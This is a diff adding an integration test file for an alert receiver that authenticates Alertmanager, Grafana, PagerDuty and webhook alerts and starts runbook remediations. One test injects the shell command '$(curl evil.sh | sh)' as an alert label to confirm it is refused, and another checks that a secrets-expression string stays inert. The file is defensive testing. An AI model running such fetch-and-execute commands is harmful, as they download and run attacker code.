@@ -1,0 +1,266 @@
+// The alert receiver over real HTTP, starting real remediations: each source authenticated its
+// own way, exactly one run per alert occurrence, resolved alerts signalled, bad input refused.
+import { createHmac } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import path from 'node:path';
+import type { FastifyInstance } from 'fastify';
+import { Webhook } from 'standardwebhooks';
+import type { CompiledRunbook } from '../../dsl/compiled';
+import type { TemporalSettings } from '../../temporal/connection';
+import type { ReceiverConfig } from '../../triggers/config';
+import { receiverMetrics, type ReceiverMetrics } from '../../triggers/metrics';
+import { buildServer } from '../../triggers/server';
+import { remediationId } from '../../triggers/start-remediation';
+import { statusQuery } from '../../workflows/messages';
+import { callsOf } from '../helpers/test-actions';
+import { closeTestClient, compile, settings, startWorker, testClient } from '../helpers/temporal';
+
+const FIXTURES = path.join(__dirname, '..', 'fixtures', 'alerts');
+const fixture = (name: string) => readFileSync(path.join(FIXTURES, name), 'utf8');
+const WEBHOOK_SECRET = `whsec_${Buffer.from('test-webhook-secret-0123456789').toString('base64')}`;
+
+const RUNBOOKS: CompiledRunbook[] = [
+  compile(`
+name: errors
+triggers:
+  - source: alertmanager
+    match: { alertname: HighErrorRate }
+  - source: grafana
+    match: { alertname: HighErrorRate }
+inputs:
+  service: { type: string, pattern: '^[a-z0-9-]{1,63}$', from: alert.labels.service }
+  summary: { type: string, from: alert.summary, default: none }
+onResolved: stop
+steps:
+  - id: note
+    uses: test.probe
+    with: { name: 'rcv-\${{ inputs.service }}', value: '\${{ inputs.summary }}' }
+  - id: gate
+    approve: { approvers: [alice], timeout: 10m }
+  - id: act
+    uses: test.probe
+    with: { name: 'rcv-act-\${{ inputs.service }}' }
+`),
+  compile(`
+name: incidents
+triggers:
+  - source: pagerduty
+    matchRe: { alertname: '.*[Ee]rror.*' }
+  - source: webhook
+    match: { team: sre }
+  - source: grafana
+    match: { alertname: DiskAlmostFull, grafana_folder: infra }
+steps:
+  - id: note
+    uses: test.probe
+    with: { name: 'rcv-incident-\${{ alert.fingerprint }}' }
+`),
+];
+
+let app: FastifyInstance;
+let metrics: ReceiverMetrics;
+let url: string;
+let s: TemporalSettings;
+
+const config: ReceiverConfig = {
+  host: '127.0.0.1',
+  port: 0,
+  runbooksDir: '',
+  auth: {
+    alertmanager: { bearerTokens: ['am-token'] },
+    grafana: { secrets: ['grafana-secret'], timestampHeader: 'x-grafana-alerting-signature-timestamp' },
+    pagerduty: { secrets: ['pd-old', 'pd-new'] },
+    webhook: { secrets: [WEBHOOK_SECRET] },
+  },
+  bodyLimitBytes: 1024 * 1024,
+  deadlineMs: 4_000,
+};
+
+async function post(source: string, body: string | Buffer, headers: Record<string, string> = {}): Promise<{ status: number; json: any }> {
+  const res = await fetch(`${url}/alerts/${source}`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body });
+  const text = await res.text();
+  return { status: res.status, json: text ? JSON.parse(text) : undefined };
+}
+const bearer = { authorization: 'Bearer am-token' };
+
+/** Runs the receiver and a worker for the whole file. */
+let stopWorker: () => Promise<void> = async () => undefined;
+beforeAll(async () => {
+  s = settings();
+  metrics = receiverMetrics();
+  app = buildServer({ config, client: await testClient(), taskQueue: s.taskQueue, runbooks: () => RUNBOOKS, metrics });
+  await app.listen({ host: '127.0.0.1', port: 0 });
+  const address = app.server.address();
+  url = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
+  stopWorker = await startWorker(s);
+});
+afterAll(async () => {
+  await app.close();
+  await stopWorker();
+  await closeTestClient();
+});
+
+async function runsOf(runbook: string, alertFingerprint: string): Promise<string[]> {
+  const ids: string[] = [];
+  for await (const w of (await testClient()).workflow.list({ query: `RunbookName = "${runbook}" AND AlertFingerprint = "${alertFingerprint}"` })) ids.push(w.workflowId);
+  return ids;
+}
+
+describe('Alertmanager', () => {
+  it('starts one remediation per alert, and repeats start nothing', async () => {
+    const first = await post('alertmanager', fixture('alertmanager-firing.json'), bearer);
+    expect(first.status).toBe(202);
+    expect(first.json.results.map((r: any) => [r.name, r.fingerprint, r.runbooks.map((b: any) => b.outcome)])).toEqual([
+      ['HighErrorRate', '7d3c1a2b9e0f4c55', ['started']],
+      ['HighErrorRate', 'a91f00c3d2e8b716', ['started']],
+    ]);
+    // Alertmanager re-sends the group; HA pairs send it twice at once.
+    const repeats = await Promise.all(Array.from({ length: 5 }, () => post('alertmanager', fixture('alertmanager-firing.json'), bearer)));
+    for (const r of repeats) expect(r.json.results.flatMap((x: any) => x.runbooks.map((b: any) => b.outcome))).toEqual(['duplicate', 'duplicate']);
+    const handle = (await testClient()).workflow.getHandle(first.json.results[0].runbooks[0].workflowId);
+    let status = await handle.query(statusQuery);
+    while (status.pending.length === 0) status = await handle.query(statusQuery);
+    expect(callsOf('rcv-checkout')).toHaveLength(1);
+    expect(callsOf('rcv-payments')).toHaveLength(1);
+    expect(first.json.results[0].runbooks[0].workflowId).toBe('errors/alertmanager/7d3c1a2b9e0f4c55@1795947330.123');
+  });
+
+  it('signals the running remediation when the alert resolves, and `onResolved: stop` stops it before the risky step', async () => {
+    const resolved = await post('alertmanager', fixture('alertmanager-resolved.json'), bearer);
+    expect(resolved.status).toBe(202);
+    expect(resolved.json.results[0].runbooks[0]).toMatchObject({ runbook: 'errors', outcome: 'resolved-signalled' });
+    const result = await (await testClient()).workflow.getHandle(resolved.json.results[0].runbooks[0].workflowId).result();
+    expect(result.stopped).toBe('the alert resolved during step `gate` (onResolved: stop)');
+    expect(callsOf('rcv-act-checkout')).toHaveLength(0);
+  });
+
+  it('answers 401 without credentials and starts nothing', async () => {
+    const before = callsOf('rcv-checkout').length;
+    for (const headers of [{}, { authorization: 'Bearer wrong' }, { authorization: 'Basic YWxpY2U6c2VjcmV0' }] as Array<Record<string, string>>) {
+      const r = await post('alertmanager', fixture('alertmanager-firing.json').replace('7d3c1a2b9e0f4c55', 'ffff000011112222'), headers);
+      expect(r.status).toBe(401);
+      expect(r.json.error).toBe('unauthenticated');
+    }
+    expect(await runsOf('errors', 'ffff000011112222')).toEqual([]);
+    expect(callsOf('rcv-checkout')).toHaveLength(before);
+  });
+});
+
+describe('Grafana, PagerDuty and signed webhooks', () => {
+  it('accepts a timestamped Grafana signature and refuses a stale or forged one', async () => {
+    const body = fixture('grafana-firing.json');
+    const now = Math.floor(Date.now() / 1000);
+    const sign = (ts: number, secret = 'grafana-secret') => ({ 'x-grafana-alerting-signature': createHmac('sha256', secret).update(`${ts}:${body}`).digest('hex'), 'x-grafana-alerting-signature-timestamp': String(ts) });
+    expect((await post('grafana', body, sign(now - 1000))).json).toEqual({ error: 'unauthenticated', reason: expect.stringMatching(/^timestamp 10\d\d s old; tolerance 300 s$/) });
+    expect((await post('grafana', body, sign(now, 'forged'))).status).toBe(401);
+    const ok = await post('grafana', body, sign(now));
+    expect(ok.status).toBe(202);
+    expect(ok.json.results[0].runbooks[0].outcome).toMatch(/started|duplicate/);
+  });
+
+  it('accepts a PagerDuty delivery signed by a rotated secret, once per delivery id', async () => {
+    const body = fixture('pagerduty-incident-triggered.json');
+    const sig = (secret: string) => `v1=${createHmac('sha256', secret).update(body).digest('hex')}`;
+    const headers = { 'x-pagerduty-signature': `${sig('pd-retired')},${sig('pd-new')}`, 'x-webhook-id': 'delivery-1' };
+    const first = await post('pagerduty', body, headers);
+    expect(first.status).toBe(202);
+    expect(first.json.results[0].runbooks[0]).toMatchObject({ runbook: 'incidents', outcome: 'started' });
+    expect(await post('pagerduty', body, headers)).toEqual({ status: 202, json: { received: 1, duplicateDelivery: true } });
+    expect((await post('pagerduty', body, { ...headers, 'x-webhook-id': 'delivery-2' })).json.results[0].runbooks[0].outcome).toBe('duplicate');
+    expect((await post('pagerduty', body, { 'x-pagerduty-signature': sig('pd-retired') })).status).toBe(401);
+  });
+
+  it('accepts a Standard Webhooks signature within five minutes and refuses a replay after', async () => {
+    const payload = JSON.stringify({ name: 'DiskFull', labels: { team: 'sre', host: 'db-1' }, fingerprint: 'disk-db-1' });
+    const signer = new Webhook(WEBHOOK_SECRET);
+    const headers = (id: string, at: Date) => ({ 'webhook-id': id, 'webhook-timestamp': String(Math.floor(at.getTime() / 1000)), 'webhook-signature': signer.sign(id, at, payload) });
+    const ok = await post('webhook', payload, headers('msg_1', new Date()));
+    expect(ok.status).toBe(202);
+    expect(ok.json.results[0].runbooks[0].outcome).toBe('started');
+    const replay = await post('webhook', payload, headers('msg_2', new Date(Date.now() - 6 * 60_000)));
+    expect(replay.status).toBe(401);
+    expect(replay.json.reason).toMatch(/timestamp \d+ s old; tolerance 300 s/);
+  });
+});
+
+describe('bad input gets a 4xx with a reason and starts nothing', () => {
+  const am = (mutate: (body: any) => void) => {
+    const body = JSON.parse(fixture('alertmanager-firing.json'));
+    mutate(body);
+    return JSON.stringify(body);
+  };
+
+  it.each<[string, () => Promise<{ status: number; json: any }>, number, RegExp]>([
+    ['malformed JSON', () => post('alertmanager', '{"version": "4", "alerts": [', bearer), 400, /^Unexpected end of JSON input|Expected/],
+    ['a wrong content type', async () => {
+      const res = await fetch(`${url}/alerts/alertmanager`, { method: 'POST', headers: { 'content-type': 'text/plain', ...bearer }, body: 'hello' });
+      return { status: res.status, json: await res.json() };
+    }, 415, /^send application\/json, not text\/plain/],
+    ['a 10 MB body', () => post('alertmanager', `{"pad":"${'x'.repeat(10 * 1024 * 1024)}"}`, bearer), 413, /^the body is larger than 1048576 bytes$/],
+    ['missing fields', () => post('alertmanager', am((b) => delete b.alerts[0].fingerprint), bearer), 422, /alerts\[0\]\.fingerprint/],
+    ['a wrong version', () => post('alertmanager', am((b) => (b.version = '3')), bearer), 422, /^version must be "4"/],
+    ['an unknown source', () => post('nagios', '{}', bearer), 404, /^no alert source `nagios`/],
+  ])('%s', async (_, send, status, reason) => {
+    const r = await send();
+    expect(r.status).toBe(status);
+    expect(r.json.reason).toMatch(reason);
+  });
+
+  it('refuses a label crafted as shell injection through the runbook input pattern, and says which', async () => {
+    const body = am((b) => {
+      b.alerts = [b.alerts[0]];
+      b.alerts[0].labels.service = '$(curl evil.sh | sh)';
+      b.alerts[0].fingerprint = 'inject0000000001';
+    });
+    const r = await post('alertmanager', body, bearer);
+    expect(r.status).toBe(422);
+    expect(r.json.results[0].runbooks[0]).toEqual({ runbook: 'errors', outcome: 'refused', reason: 'input `service` (alert.labels.service) `$(curl evil.sh | sh)` does not match ^[a-z0-9-]{1,63}$' });
+    expect(await runsOf('errors', 'inject0000000001')).toEqual([]);
+  });
+
+  it('carries an expression-injection annotation as inert data', async () => {
+    const body = am((b) => {
+      b.alerts = [b.alerts[0]];
+      b.alerts[0].labels.service = 'inert';
+      b.alerts[0].annotations.summary = '${{ secrets.pg_password }} ${{ run.id }}';
+      b.alerts[0].fingerprint = 'inert00000000001';
+    });
+    const r = await post('alertmanager', body, bearer);
+    expect(r.status).toBe(202);
+    const handle = (await testClient()).workflow.getHandle(r.json.results[0].runbooks[0].workflowId);
+    let status = await handle.query(statusQuery);
+    while (status.steps.note?.status !== 'succeeded') status = await handle.query(statusQuery);
+    expect((status.steps.note!.outputs as { value: string }).value).toBe('${{ secrets.pg_password }} ${{ run.id }}');
+    await handle.terminate('test done');
+  });
+
+  it('answers 202 for an alert no runbook matches, and counts it', async () => {
+    const body = am((b) => {
+      b.alerts = [b.alerts[0]];
+      b.alerts[0].labels.alertname = 'SomethingElse';
+    });
+    const r = await post('alertmanager', body, bearer);
+    expect(r.status).toBe(202);
+    expect(r.json.results[0]).toMatchObject({ name: 'SomethingElse', outcome: 'unmatched', runbooks: [] });
+    expect(await metrics.registry.getSingleMetricAsString('runbook_receiver_unmatched_alerts_total')).toContain('runbook_receiver_unmatched_alerts_total{source="alertmanager"} 1');
+  });
+});
+
+describe('operations', () => {
+  it('serves health, readiness and metrics', async () => {
+    expect(await (await fetch(`${url}/healthz`)).json()).toEqual({ status: 'ok' });
+    expect(await (await fetch(`${url}/readyz`)).json()).toEqual({ status: 'ready', runbooks: 2 });
+    const text = await (await fetch(`${url}/metrics`)).text();
+    expect(text).toMatch(/runbook_receiver_remediations_total\{runbook="errors",outcome="started"\} \d+/);
+    expect(text).toMatch(/runbook_receiver_remediations_total\{runbook="errors",outcome="duplicate"\} \d+/);
+    expect(text).toMatch(/runbook_receiver_rejected_requests_total\{source="alertmanager",reason="auth"\} 3/);
+    expect(text).toContain('runbook_receiver_request_seconds_bucket');
+  });
+
+  it('derives remediation ids from runbook, source, fingerprint and start time', () => {
+    const alert = { source: 'alertmanager' as const, status: 'firing' as const, fingerprint: 'abc', name: 'X', labels: {}, annotations: {}, startsAt: '2026-11-29T10:00:00Z' };
+    expect(remediationId(RUNBOOKS[0]!, alert)).toBe('errors/alertmanager/abc@1795946400');
+    expect(remediationId(RUNBOOKS[1]!, { ...alert, source: 'pagerduty', fingerprint: 'Q1ABC' })).toBe('incidents/pagerduty/Q1ABC');
+    expect(remediationId(RUNBOOKS[0]!, { ...alert, fingerprint: 'has spaces/and slashes' })).toMatch(/^errors\/alertmanager\/[0-9a-f]{32}@1795946400$/);
+  });
+});
